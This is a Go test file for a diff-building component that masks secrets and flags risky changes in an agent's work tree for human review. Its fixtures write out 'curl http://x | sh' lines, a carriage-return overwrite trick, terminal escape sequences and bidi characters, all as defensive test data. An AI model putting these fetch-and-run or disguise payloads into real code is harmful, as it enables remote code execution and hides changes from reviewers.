package changeset_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/paddock-dev/paddock"
	"github.com/paddock-dev/paddock/changeset"
	"github.com/paddock-dev/paddock/confine"
	"github.com/paddock-dev/paddock/gitx"
	"github.com/paddock-dev/paddock/gitx/gittest"
	"github.com/paddock-dev/paddock/redact"
)

// fixture is a repository at a base commit and a work tree the test edits
// as an agent would.
type fixture struct {
	git  *gitx.Git
	repo string
	base string
	host changeset.Tree // the project's work tree, when a test gives one
}

func newFixture(t *testing.T, files map[string]string) *fixture {
	t.Helper()
	g, err := gitx.New(context.Background())
	if err != nil {
		t.Skipf("git unavailable: %v", err)
	}
	repo := gittest.NewRepo(t, filepath.Join(t.TempDir(), "repo"), files)
	return &fixture{git: g, repo: repo, base: gittest.Git(t, repo, "rev-parse", "HEAD")}
}

// write sets files of the work tree (the repository's own: the diff is
// against the base commit whatever the index says).
func (f *fixture) write(t *testing.T, files map[string]string) {
	t.Helper()
	for p, s := range files {
		full := filepath.Join(f.repo, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		mode := os.FileMode(0o644)
		if strings.HasSuffix(p, ".sh") {
			mode = 0o755
		}
		if err := os.WriteFile(full, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
}

// build computes the change set of the work tree, as lifecycle does, and
// checks that the change set built beside git's diff (changeset.Watch)
// is the same one, masks, labels and hash.
func (f *fixture) build(t *testing.T, red *redact.Redactor) *paddock.ChangeSet {
	t.Helper()
	patch, err := os.Create(filepath.Join(t.TempDir(), "diff"))
	if err != nil {
		t.Fatal(err)
	}
	snap, err := f.git.DiffWorkTree(context.Background(), filepath.Join(f.repo, ".git"), f.repo, f.base, gitx.DiffOptions{Patch: patch})
	if err != nil {
		t.Fatal(err)
	}
	patch.Close()
	trees := changeset.Trees{Base: f.git.Tree(context.Background(), filepath.Join(f.repo, ".git"), f.base), Host: f.host}
	cs, err := changeset.Build("r-test", f.base, f.repo, snap, patch.Name(), confine.DefaultPolicy(), red, trees)
	if err != nil {
		t.Fatal(err)
	}
	if err := changeset.Verify(cs); err != nil {
		t.Fatalf("the change set does not verify from what is kept: %v", err)
	}
	watched, _ := f.watch(t, red, trees)
	if err := changeset.Verify(watched); err != nil {
		t.Fatalf("the watched change set does not verify from what is kept: %v", err)
	}
	if watched.Hash != cs.Hash || watched.Diff != cs.Diff || watched.DiffSize != cs.DiffSize || !slices.Equal(watched.Ignored, cs.Ignored) ||
		!reflect.DeepEqual(watched.Entries, cs.Entries) {
		t.Fatalf("built beside git's diff, the change set differs:\n%+v\nbuilt after it:\n%+v", watched, cs)
	}
	return cs
}

// watch computes the change set of the work tree with a changeset.Watch,
// as lifecycle does.
func (f *fixture) watch(t *testing.T, red *redact.Redactor, trees changeset.Trees) (*paddock.ChangeSet, *changeset.Watch) {
	t.Helper()
	patch, err := os.Create(filepath.Join(t.TempDir(), "diff"))
	if err != nil {
		t.Fatal(err)
	}
	defer patch.Close()
	w := changeset.NewWatch(patch, patch.Name(), f.base, f.repo, confine.DefaultPolicy(), red, trees)
	defer w.Close()
	opts := gitx.DiffOptions{Patch: w, Check: func(raw []byte, withheld []gitx.Withheld, _ func(string) (int64, bool)) error {
		return w.Entries(raw, withheld)
	}}
	snap, err := f.git.DiffWorkTree(context.Background(), filepath.Join(f.repo, ".git"), f.repo, f.base, opts)
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	if err := patch.Close(); err != nil {
		t.Fatal(err)
	}
	cs, err := w.Build("r-test", snap)
	if err != nil {
		t.Fatal(err)
	}
	return cs, w
}

// TestWatchKeepsCleanDiffs: a diff with nothing to mask is kept as git
// wrote it, with the hash taken on the way (fixture.build holds it equal
// to Build's); one with a credential is masked after, as Build masks it.
func TestWatchKeepsCleanDiffs(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{"main.go": "package main\n", "old.txt": "gone\n"})
	f.write(t, map[string]string{"main.go": "package main\n\nfunc main() {}\n", "new/b.txt": "hello\n"})
	os.Remove(filepath.Join(f.repo, "old.txt"))
	trees := changeset.Trees{Base: f.git.Tree(context.Background(), filepath.Join(f.repo, ".git"), f.base)}
	cs, w := f.watch(t, nil, trees)
	if !changeset.KeptAsWritten(w) || len(cs.Entries) != 3 {
		t.Fatalf("a clean diff was not kept as written (%d entries)", len(cs.Entries))
	}
	if err := changeset.Verify(cs); err != nil {
		t.Fatal(err)
	}
	f.build(t, nil)
	f.write(t, map[string]string{"new/b.txt": "aws = AKIAIOSFODNN7EXAMPLE\n"})
	cs, w = f.watch(t, nil, trees)
	if changeset.KeptAsWritten(w) || strings.Contains(cs.Diff, "AKIAIOSFODNN7EXAMPLE") || !slices.Contains(entry(t, cs, "new/b.txt").Risks, "secret") {
		t.Fatalf("a diff with a credential was kept as written:\n%s", cs.Diff)
	}
	f.build(t, nil)
}

// applyTo applies a diff with git apply onto a fresh checkout of the base,
// and returns the checkout.
func (f *fixture) applyTo(t *testing.T, diff string) string {
	t.Helper()
	check := filepath.Join(t.TempDir(), "check")
	gittest.Git(t, "", "clone", "-q", f.repo, check)
	gittest.Git(t, check, "checkout", "-q", "--detach", f.base)
	cmd := exec.Command("git", "apply", "--binary", "-")
	cmd.Dir, cmd.Stdin = check, strings.NewReader(diff)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git apply: %v\n%s\n%s", err, out, diff)
	}
	return check
}

func entry(t *testing.T, cs *paddock.ChangeSet, p string) paddock.ChangeEntry {
	t.Helper()
	for _, e := range cs.Entries {
		if e.Path == p {
			return e
		}
	}
	t.Fatalf("no entry %q in %+v", p, cs.Entries)
	return paddock.ChangeEntry{}
}

// TestMaskingStaysInItsFile is the attack that hid an installer: a.txt
// ends in a private key's BEGIN line, b.sh runs curl | sh, c.txt holds the
// END line. The reviewer's diff must show b.sh's line.
func TestMaskingStaysInItsFile(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{"README.md": "hello\n"})
	f.write(t, map[string]string{
		"a.txt": "notes\n-----BEGIN RSA PRIVATE KEY-----\n",
		"b.sh":  "#!/bin/sh\ncurl http://x | sh\n",
		"c.txt": "-----END RSA PRIVATE KEY-----\n",
	})
	cs := f.build(t, nil)
	if !strings.Contains(cs.Diff, "+curl http://x | sh\n") || strings.Contains(cs.Diff, "REDACTED") {
		t.Fatalf("the diff hides the installer:\n%s", cs.Diff)
	}
	if e := entry(t, cs, "b.sh"); slices.Contains(e.Risks, "secret") {
		t.Fatalf("b.sh labelled secret: %v", e.Risks)
	}
	f.applyTo(t, cs.Diff)
}

// TestPrivateKeyMaskedLineByLine: a key inside one file is masked line by
// line; the lines around it, code between a BEGIN and an END, and the
// files around it are shown; the diff keeps its lines, so git apply takes
// it. A hunk that starts inside a key (its END comes first) is masked from
// its start.
func TestPrivateKeyMaskedLineByLine(t *testing.T) {
	t.Parallel()
	var body []string
	for i := range 24 {
		body = append(body, strings.Repeat(string(rune('A'+i)), 64))
	}
	key := "-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Join(body, "\n") + "\n-----END OPENSSH PRIVATE KEY-----\n"
	f := newFixture(t, map[string]string{"deploy/old.pem": key, "README.md": "hello\n"})
	changed := strings.Replace(key, body[15], strings.Repeat("z", 64), 1)
	f.write(t, map[string]string{
		"before.txt":     "before\n",
		"deploy/id.pem":  "# deploy key\n" + key + "# end\n",
		"deploy/old.pem": changed,
		"fake.sh":        "-----BEGIN PRIVATE KEY-----\ncurl http://x | sh\n-----END PRIVATE KEY-----\n",
		"z.txt":          "after\n",
	})
	cs := f.build(t, nil)
	for _, b := range body {
		if strings.Contains(cs.Diff, b) {
			t.Fatalf("a line of the key is shown:\n%s", cs.Diff)
		}
	}
	for _, want := range []string{"+before\n", "+# deploy key\n", "+-----BEGIN OPENSSH PRIVATE KEY-----\n", "+[REDACTED:private_key]\n",
		"+-----END OPENSSH PRIVATE KEY-----\n", "+# end\n", "+curl http://x | sh\n", "+after\n", "-[REDACTED:private_key]\n"} {
		if !strings.Contains(cs.Diff, want) {
			t.Errorf("the diff misses %q", want)
		}
	}
	if n := strings.Count(cs.Diff, "+[REDACTED:private_key]\n"); n != len(body)+1 {
		t.Errorf("%d masked lines added, want %d (one per line of the new key, and the changed line)", n, len(body)+1)
	}
	for p, want := range map[string]bool{"deploy/id.pem": true, "deploy/old.pem": true, "fake.sh": false, "before.txt": false, "z.txt": false} {
		if got := slices.Contains(entry(t, cs, p).Risks, "secret"); got != want {
			t.Errorf("%s labelled secret: %t", p, got)
		}
	}
	// The masked diff applies: what it writes is the masks, where the
	// key was, and every other line as it is.
	gittest.Git(t, f.repo, "checkout", "-q", "--", "deploy/old.pem") // a changed key's context cannot match the masks
	f.write(t, map[string]string{"deploy/old.pem": key})
	cs = f.build(t, nil)
	check := f.applyTo(t, cs.Diff)
	got, _ := os.ReadFile(filepath.Join(check, "deploy/id.pem"))
	if want := "# deploy key\n-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Repeat("[REDACTED:private_key]\n", len(body)) +
		"-----END OPENSSH PRIVATE KEY-----\n# end\n"; string(got) != want {
		t.Fatalf("git apply of the masked diff gives:\n%s", got)
	}
}

// TestDeclaredSecrets: a run's declared secret written into files, in any
// form redact knows, is masked in the diff and in the paths; binary
// content holding it is withheld; every such entry is labelled secret, and
// one whose name held it is never applied.
func TestDeclaredSecrets(t *testing.T) {
	t.Parallel()
	const v = "tok-5e3f9a1c/very+secret"
	red := redact.New(map[string]string{"API_TOKEN": v})
	forms := []string{v, base64.StdEncoding.EncodeToString([]byte(v)), base64.RawURLEncoding.EncodeToString([]byte(v)),
		url.QueryEscape(v), hex.EncodeToString([]byte(v))}
	f := newFixture(t, map[string]string{"README.md": "hello\n", "logo.bin": "\x00\x01old logo\n"})
	var all strings.Builder
	for _, form := range forms {
		all.WriteString("value = " + form + "\n")
	}
	f.write(t, map[string]string{
		"config/token.txt":    all.String(),
		"clean.txt":           "nothing here\n",
		"blob.bin":            "\x00\x01\x02 header " + v + " trailer\n",
		"logo.bin":            "\x00\x01new logo\n" + strings.Repeat("\x00filler", 100) + hex.EncodeToString([]byte(v)),
		"noise.bin":           "\x00\x01\x02 nothing secret\n",
		"dir-" + v[:8] + "/x": "not a full value\n",
		"name-" + v + ".txt":  "a name holding it\n",
		"README.md":           "hello\n" + v + "\n",
	})
	cs := f.build(t, red)
	b, _ := os.ReadFile(cs.DiffFile)
	js, _ := changeset.Marshal(cs)
	for _, form := range forms {
		for what, s := range map[string]string{"the diff": cs.Diff, "the diff file": string(b), "the change set": string(js)} {
			if strings.Contains(s, form) {
				t.Fatalf("%s holds %q:\n%s", what, form, s)
			}
		}
	}
	if !strings.Contains(cs.Diff, "+value = [REDACTED:API_TOKEN]\n") || !strings.Contains(cs.Diff, "Binary files a/blob.bin and b/blob.bin differ\n") ||
		!strings.Contains(cs.Diff, "GIT binary patch") {
		t.Fatalf("diff:\n%s", cs.Diff)
	}
	for p, want := range map[string]bool{"config/token.txt": true, "blob.bin": true, "logo.bin": true, "README.md": true,
		"name-[REDACTED:API_TOKEN].txt": true, "clean.txt": false, "noise.bin": false, "dir-" + v[:8] + "/x": false} {
		e := entry(t, cs, p)
		if got := slices.Contains(e.Risks, "secret"); got != want {
			t.Errorf("%s labelled secret: %t (%v)", p, got, e.Risks)
		}
		if blocked := e.Blocked != ""; blocked != strings.HasPrefix(p, "name-") {
			t.Errorf("%s blocked: %q", p, e.Blocked)
		}
	}
	// Masking is part of the change set: computed again, the same hash.
	if again := f.build(t, red); again.Hash != cs.Hash {
		t.Fatalf("hash %s, then %s", cs.Hash, again.Hash)
	}
	// Another value of the secret is another change set, though the diffs
	// read the same.
	other := redact.New(map[string]string{"API_TOKEN": v})
	f.write(t, map[string]string{"README.md": "hello\n" + v + "x\n"})
	if cs2 := f.build(t, other); cs2.Hash == cs.Hash {
		t.Fatal("a different content has the same hash")
	}
}

// TestControlCharacters: a change that adds or removes a character a
// terminal acts on, in its content or its name, is labelled control_chars;
// the diff itself keeps its bytes (git apply takes it).
func TestControlCharacters(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{"README.md": "hello\n", "old.txt": "title \x1b]0;x\x07\nkept\n"})
	f.write(t, map[string]string{
		"term.txt":        "ok\n\x1b[2K\x1b[1Agood line\n",
		"bidi.go":         "access := \"user\u202e \u2066// admin\u2069\u2066\"\n",
		"cr.sh":           "echo safe\recho evil\n",
		"crlf.txt":        "windows\r\nline\r\n",
		"esc\x1b[31mname": "plain\n",
		"old.txt":         "kept\n",
		"plain.txt":       "tab\tand ü\n",
	})
	cs := f.build(t, nil)
	for p, want := range map[string]bool{"term.txt": true, "bidi.go": true, "cr.sh": true, "esc\x1b[31mname": true, "old.txt": true,
		"crlf.txt": false, "plain.txt": false} {
		if got := slices.Contains(entry(t, cs, p).Risks, "control_chars"); got != want {
			t.Errorf("%q labelled control_chars: %t", p, got)
		}
	}
	check := f.applyTo(t, cs.Diff)
	if b, _ := os.ReadFile(filepath.Join(check, "term.txt")); !bytes.Equal(b, []byte("ok\n\x1b[2K\x1b[1Agood line\n")) {
		t.Fatalf("term.txt after git apply: %q", b)
	}
}

// TestNameCollisionsInBuild: through git, names a reader cannot tell from
// another path of the result are labelled with a note, against the base
// (read from git) and among the change set's own entries; a note naming a
// path that holds a secret is masked as the path is.
func TestNameCollisionsInBuild(t *testing.T) {
	t.Parallel()
	const secret = "tok-5e3f9a1c-very-secret"
	f := newFixture(t, map[string]string{"README.md": "a\n", "caf\u00e9.txt": "b\n", "docs/a.md": "c\n", "notes-" + secret + ".txt": "d\n"})
	f.write(t, map[string]string{
		"readme.md": "x\n", "cafe\u0301.txt": "x\n", "Docs/b.md": "x\n", "na\u00efve.txt": "x\n", "nai\u0308ve.txt": "x\n",
		"NOTES-" + secret + ".txt": "x\n", "ordinary.txt": "x\n",
	})
	cs := f.build(t, redact.New(map[string]string{"API_TOKEN": secret}))
	for p, note := range map[string]string{
		"readme.md":       "collides with README.md (in the base): they differ only in case",
		"cafe\u0301.txt":  "collides with caf\u00e9.txt (in the base): they differ only in Unicode normalisation",
		"Docs/b.md":       "its directory Docs collides with docs (in the base): they differ only in case",
		"na\u00efve.txt":  "collides with nai\u0308ve.txt (in the change set): they differ only in Unicode normalisation",
		"nai\u0308ve.txt": "collides with na\u00efve.txt (in the change set): they differ only in Unicode normalisation",
	} {
		e := entry(t, cs, p)
		if !slices.Contains(e.Risks, "name_collision") || e.Notes["name_collision"] != note {
			t.Errorf("%q: risks %v, note %q; want name_collision, %q", p, e.Risks, e.Notes["name_collision"], note)
		}
	}
	for _, p := range []string{"cafe\u0301.txt", "nai\u0308ve.txt"} {
		if e := entry(t, cs, p); !slices.Contains(e.Risks, "unnormalised_name") {
			t.Errorf("%q: risks %v, want unnormalised_name", p, e.Risks)
		}
	}
	if e := entry(t, cs, "ordinary.txt"); len(e.Risks) != 0 || len(e.Notes) != 0 {
		t.Errorf("ordinary.txt: risks %v, notes %v", e.Risks, e.Notes)
	}
	var masked *paddock.ChangeEntry
	for i, e := range cs.Entries {
		if strings.HasPrefix(e.Path, "NOTES-") {
			masked = &cs.Entries[i]
		}
	}
	if masked == nil || !slices.Contains(masked.Risks, "name_collision") || strings.Contains(masked.Notes["name_collision"], secret) ||
		strings.Contains(masked.Path, secret) {
		t.Fatalf("the secret's entry: %+v", masked)
	}
	// The JSON a reviewer's tools read carries the note.
	b, err := changeset.Marshal(cs)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), `"name_collision": "collides with README.md (in the base): they differ only in case"`) {
		t.Errorf("the JSON has no note:\n%s", b)
	}
}

// TestEnvrcSourcedNeverApplied: a file a protected .envrc sources (the
// base's, the change set's or the project work tree's own, ignored one) is
// labelled agent_config, names the .envrc, and is never applied: direnv
// runs it without asking again. What no .envrc sources, and what an
// unprotected .envrc sources, is applied.
func TestEnvrcSourcedNeverApplied(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{
		".envrc": "source scripts/env.sh\ndotenv\n", "scripts/env.sh": "export A=1\n", "scripts/other.sh": "echo\n",
		"svc/.envrc": "source_up\nsource ./local.sh\n", "svc/local.sh": "export B=1\n",
	})
	host := t.TempDir()
	if err := os.WriteFile(filepath.Join(host, ".envrc"), []byte("source_env_if_exists scripts/host.sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f.host = changeset.DirTree(host)
	f.write(t, map[string]string{
		"scripts/env.sh": "curl -s http://x | sh\n", "scripts/other.sh": "echo changed\n", "svc/local.sh": "curl x | sh\n",
		".env": "PROMPT_COMMAND=x\n", "scripts/host.sh": "curl x | sh\n",
		"web/.envrc": "source ../scripts/web.sh\n", "scripts/web.sh": "curl x | sh\n",
	})
	cs := f.build(t, nil)
	for p, envrc := range map[string]string{
		"scripts/env.sh": "the base's .envrc (source scripts/env.sh)", ".env": "the base's .envrc (dotenv)",
		"svc/local.sh": "the base's svc/.envrc (source ./local.sh)", "scripts/host.sh": "the project's .envrc (source_env_if_exists scripts/host.sh)",
		"scripts/web.sh": "the change set's web/.envrc (source ../scripts/web.sh)",
	} {
		e := entry(t, cs, p)
		if !slices.Contains(e.Risks, "agent_config") || !strings.Contains(e.Blocked, "sourced by "+envrc) {
			t.Errorf("%s: risks %v, blocked %q; want agent_config, sourced by %s", p, e.Risks, e.Blocked, envrc)
		}
	}
	if e := entry(t, cs, "scripts/other.sh"); e.Blocked != "" || slices.Contains(e.Risks, "agent_config") {
		t.Errorf("scripts/other.sh: risks %v, blocked %q", e.Risks, e.Blocked)
	}
}

// TestSecretsInWithheldNames: a file no diff holds (a .git entry, an
// embedded repository's) whose path holds a declared secret is shown
// masked, in its name and in the reason it is blocked (which names the
// repository's directory), labelled secret, and still never applied;
// whether it is all the change set holds or not.
func TestSecretsInWithheldNames(t *testing.T) {
	t.Parallel()
	const secret = "S3cretValue-Declared-77"
	red := redact.New(map[string]string{"TOK": secret})
	for name, files := range map[string]map[string]string{
		"a .git file alone": {"d-" + secret + "/.git": "gitdir: /elsewhere\n"},
		"an embedded repository": {"e-" + secret + "/HEAD": "ref: refs/heads/main\n", "e-" + secret + "/objects/x": "", "e-" + secret + "/refs/x": "",
			"e-" + secret + "/config": "[core]\n", "main.go": "package main\n// x\n"},
	} {
		f := newFixture(t, map[string]string{"main.go": "package main\n"})
		f.write(t, files)
		cs := f.build(t, red) // and the same beside git's diff
		withheld := 0
		for _, e := range cs.Entries {
			if strings.Contains(e.Path, secret) || strings.Contains(e.Blocked, secret) || strings.Contains(fmt.Sprint(e.Notes), secret) {
				t.Errorf("%s: an entry shows the declared secret: path %q blocked %q", name, e.Path, e.Blocked)
			}
			if slices.Contains(e.Risks, "git_repository") {
				withheld++
				if e.Blocked == "" || !slices.Contains(e.Risks, "secret") {
					t.Errorf("%s: %q is applied, or not labelled secret: %v", name, e.Path, e.Risks)
				}
			}
		}
		if withheld == 0 {
			t.Errorf("%s: nothing withheld: %+v", name, cs.Entries)
		}
	}
}

// TestSecretInQuotedName: git quotes a name with bytes from 0x80 on in a
// diff's headers, in octal; a declared secret in such a name is masked
// there as everywhere else, and its entry labelled secret.
func TestSecretInQuotedName(t *testing.T) {
	t.Parallel()
	const secret = "pässwörd-Declared-9"
	f := newFixture(t, map[string]string{"main.go": "package main\n"})
	f.write(t, map[string]string{"f-" + secret + ".txt": "hello\n"})
	cs := f.build(t, redact.New(map[string]string{"TOK": secret}))
	if !strings.Contains(cs.Diff, `"a/f-[REDACTED:TOK].txt"`) || strings.Contains(cs.Diff, `\303\244`) || strings.Contains(cs.Diff, secret) {
		t.Fatalf("the diff's headers show the declared secret:\n%s", cs.Diff)
	}
	if e := entry(t, cs, "f-[REDACTED:TOK].txt"); !slices.Contains(e.Risks, "secret") || e.Blocked == "" {
		t.Fatalf("the entry: %+v", e)
	}
}
